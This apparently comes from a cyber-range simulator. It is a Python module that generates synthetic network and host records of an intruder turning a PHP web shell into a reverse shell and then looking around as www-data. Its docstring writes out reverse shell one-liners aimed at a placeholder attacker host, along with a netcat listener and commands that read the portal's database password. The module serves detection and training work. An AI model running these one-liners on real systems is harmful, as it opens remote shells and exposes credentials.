"""Reverse shell from the portal's web shell, MITRE ATT&CK T1059.004 Command and Scripting
Interpreter: Unix Shell.

Imitates an intruder who holds a PHP web shell on the portal (the ``webshell`` technique) and
trades it for an interactive shell: with ``nc -lvnp 4444`` waiting on Kali, the web shell's
``cmd`` runs a reverse shell one-liner through PHP's ``system()`` (``payload``: ``bash -c 'bash
-i >& /dev/tcp/ATTACKER/4444 0>&1'``, netcat with a named pipe, or python3's pty; see
:mod:`attack_scripts._shellsession`) and the web server connects back. The intruder looks
around as ``www-data``: ``id``, ``hostname``, ``uname -a``, ``ls -la``, the portal's
``config.php`` with its database password, ``ls -la /home``, the listening sockets.

The traffic: one TCP connection from the web server to the intruder's port, the shell's words
in clear: bash's ``cannot set terminal process group`` and ``no job control in this shell``,
the prompt ``www-data@portal:/var/www/html/uploads$ ``, each typed line (the intruder's think
and typing time before it) and its output. Wireshark: Follow TCP Stream on a connection the web
server opened to an outside port.

On the web server (host records): php-fpm's worker runs ``/bin/sh -c PAYLOAD`` as ``www-data``,
the payload's processes (``bash -c ...`` then ``bash -i``; or ``rm``, ``mkfifo``, ``cat``,
``/bin/sh -i``, ``nc``; or ``python3 -c ...`` and ``/bin/bash`` on a pty), the
``network_connection`` of the process holding the socket (``Initiated=true`` to the intruder's
port), and every command as a child of the interactive shell (process_creation, auditd).
"""
from __future__ import annotations

from pydantic import Field, field_validator

from attack_scripts import _http
from attack_scripts._shellsession import Session, SessionParams, admin_of, bound, ls_time, play, secret
from range.traffic import StepContext, Technique, technique

DEFAULT_COMMANDS = ["id", "hostname", "uname -a", "ls -la", "cat ../config.php", "ls -la /home", "ss -tlnp"]
_WORST_IP = "255.255.255.255"


class Params(SessionParams):
    commands: list[str] = Field(default=DEFAULT_COMMANDS, min_length=1, max_length=100,
                                description="what the intruder types at the shell, in order")

    @field_validator("commands")
    @classmethod
    def _one_line_each(cls, v: list[str]) -> list[str]:
        for i, c in enumerate(v):
            if not c.strip() or len(c) > 500 or any(ord(ch) < 0x20 for ch in c):
                raise ValueError(f"command {i + 1} must be one non-empty line of at most 500 characters")
            if c.split()[0] == "exit":
                raise ValueError(f"command {i + 1}: the session ends with exit by itself")
        return v


class _Portal:
    """What ``www-data`` sees on the portal's web server."""

    def __init__(self, ctx: StepContext):
        self.ctx, self.host = ctx, ctx.targets[0]
        self.admin = admin_of(ctx.layout, self.host.name)
        self.db_pass = secret(ctx.layout, self.host.name, "db")
        self.outputs = {"ls -la": self.uploads, "cat ../config.php": self.config, "ls -la /home": self.home,
                        "ss -tlnp": self.sockets}

    def output(self, command: str) -> str | None:
        """None: the session's generic answer (``id``, ``hostname``...) or nothing."""
        fn = self.outputs.get(command)
        return fn() if fn else None

    def uploads(self) -> str:
        r, now = self.ctx.rng, self.ctx.t0
        rows = sorted((f"scan_{r.randint(10000, 99999)}.pdf", r.randint(80000, 2400000),
                       now - r.uniform(3600, 30 * 86400)) for _ in range(r.randint(3, 6)))
        return (f"total {r.randint(900, 9000)}\n"
                f"drwxrwxr-x 2 www-data www-data     4096 {ls_time(now - r.uniform(60, 300), now)} .\n"
                f"drwxr-xr-x 6 www-data www-data     4096 {ls_time(now - 9e5, now)} ..\n"
                + "".join(f"-rw-r--r-- 1 www-data www-data {size:>8} {ls_time(t, now)} {name}\n"
                          for name, size, t in rows))

    def config(self) -> str:
        return ("<?php\n// Portal configuration\ndefine('SITE_NAME', '" + _http.site_name(self.ctx.domain) + "');\n"
                "$db_host = 'localhost';\n$db_name = 'portal';\n$db_user = 'portal_app';\n"
                f"$db_pass = '{self.db_pass}';\n\n$db = new mysqli($db_host, $db_user, $db_pass, $db_name);\n")

    def home(self) -> str:
        now = self.ctx.t0
        installed = ls_time(now - 260 * 86400, now)
        return (f"total 12\ndrwxr-xr-x  3 root root 4096 {installed} .\ndrwxr-xr-x 18 root root 4096 {installed} ..\n"
                f"drwx------  5 {self.admin:<8} {self.admin:<8} 4096 {ls_time(now - 2.7 * 86400, now)} {self.admin}\n")

    @staticmethod
    def sockets() -> str:
        return ("State  Recv-Q Send-Q Local Address:Port  Peer Address:PortProcess\n"
                "LISTEN 0      511          0.0.0.0:80         0.0.0.0:*          \n"
                "LISTEN 0      128          0.0.0.0:22         0.0.0.0:*          \n"
                "LISTEN 0      80         127.0.0.1:3306       0.0.0.0:*          \n")


@technique
class ReverseShell(Technique):
    name = "reverse_shell"
    attack = "T1059.004"
    tactic = "execution"
    summary = "a reverse shell from the web server's PHP to the intruder's listener, then commands as www-data"
    Params = Params
    max_targets = 1
    target_services = ("http",)

    def duration(self, p: Params) -> float:
        return bound([c.replace("{attacker}", _WORST_IP) for c in p.commands], p.think)

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        portal = _Portal(ctx)

        def script(s: Session) -> list:
            for c in p.commands:
                s.type(c.replace("{attacker}", ctx.source.ip), portal.output(c))
            return []

        return play(ctx, p, "webshell", script, self.duration(p))

